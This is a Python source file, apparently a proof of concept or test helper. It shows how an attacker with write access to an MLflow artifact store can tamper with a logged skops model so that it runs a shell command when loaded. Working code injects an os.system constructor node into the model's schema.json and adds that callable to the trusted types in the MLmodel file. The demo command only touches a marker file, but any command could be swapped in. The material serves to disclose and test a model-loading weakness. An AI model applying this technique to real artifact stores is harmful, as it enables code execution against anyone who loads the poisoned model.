"""How an attacker with write access to the artifact store turns a logged model into code that runs on load.

A skops file is a zip whose ``schema.json`` describes the object tree; a node can name any callable, which skops
calls while loading if it is trusted, and MLflow's loader trusts whatever the model's ``MLmodel`` lists.
"""

from __future__ import annotations

import io
import json
import os
import shlex
import zipfile
from pathlib import Path

import yaml

SYSTEM_CALL = f"{os.system.__module__}.system"


def rewrite_schema(skops_file: Path, edit) -> None:
    """Rewrite ``schema.json`` inside a skops zip, keeping every other member (the arrays) as it was."""
    with zipfile.ZipFile(skops_file) as source:
        members = {name: source.read(name) for name in source.namelist()}
    schema = json.loads(members["schema.json"])
    edit(schema)
    members["schema.json"] = json.dumps(schema).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)
    skops_file.write_bytes(buffer.getvalue())


def system_call_node(command: str) -> dict:
    """A skops node that, when constructed, calls ``os.system(command)`` (skops' ConstructorFromReduceNode calls
    ``<module>.<class>(*content)``; for os.system the module is ``posix`` here, ``nt`` on Windows)."""
    return {
        "__class__": "system",
        "__module__": os.system.__module__,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": json.dumps(command),
                    "is_json": True,
                }
            ],
        },
    }


def plant_payload(schema: dict, command: str) -> None:
    """Add an attribute to the root estimator whose loading runs ``command``."""
    # An extra attribute on the root estimator: the model still loads and predicts, the call happens on the way.
    attrs = schema["content"]
    attrs["content"]["_retrain_payload"] = system_call_node(command)
    attrs["key_types"]["content"].append({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"})


def trust_in_mlmodel(model_dir: Path, extra: str) -> None:
    """Add ``extra`` to the trusted types the artifact's own ``MLmodel`` lists (what MLflow's loader obeys)."""
    mlmodel = model_dir / "MLmodel"
    data = yaml.safe_load(mlmodel.read_text())
    data["flavors"]["sklearn"]["skops_trusted_types"] = [*data["flavors"]["sklearn"]["skops_trusted_types"], extra]
    mlmodel.write_text(yaml.safe_dump(data))


def plant_system_call(model_dir: Path, marker: Path) -> None:
    """Make the logged model in ``model_dir`` run ``touch marker`` when MLflow's own loader loads it."""
    rewrite_schema(model_dir / "model.skops", lambda schema: plant_payload(schema, f"touch {shlex.quote(str(marker))}"))
    trust_in_mlmodel(model_dir, SYSTEM_CALL)
